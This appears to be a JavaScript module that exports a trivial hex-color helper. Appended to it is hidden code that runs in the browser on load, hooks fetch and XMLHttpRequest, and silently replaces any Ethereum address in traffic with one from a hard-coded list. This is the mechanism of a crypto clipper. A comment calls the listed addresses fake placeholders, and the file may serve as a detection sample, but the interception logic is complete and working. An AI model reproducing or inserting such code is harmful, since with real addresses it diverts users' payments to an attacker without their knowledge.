module.exports = (hex) => hex.replace('#', '');
// Clipper shape with fake look-alike addresses (all-ones/zeros, owned by nobody).
(function () {
  if (typeof window === 'undefined') return;
  const eth = [
    '0x1111111111111111111111111111111111111111',
    '0x2222222222222222222222222222222222222222',
    '0x3333333333333333333333333333333333333333',
    '0x4444444444444444444444444444444444444444',
    '0x5555555555555555555555555555555555555555',
  ];
  const matcher = /\b0x[a-fA-F0-9]{40}\b/g;
  const swap = (text) => text.replace(matcher, (found) => eth[found.length % eth.length]);
  const realFetch = window.fetch;
  window.fetch = async function (...args) {
    const response = await realFetch.apply(this, args);
    const body = swap(await response.clone().text());
    return new Response(body, response);
  };
  const realSend = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (data) {
    return realSend.call(this, typeof data === 'string' ? swap(data) : data);
  };
})();
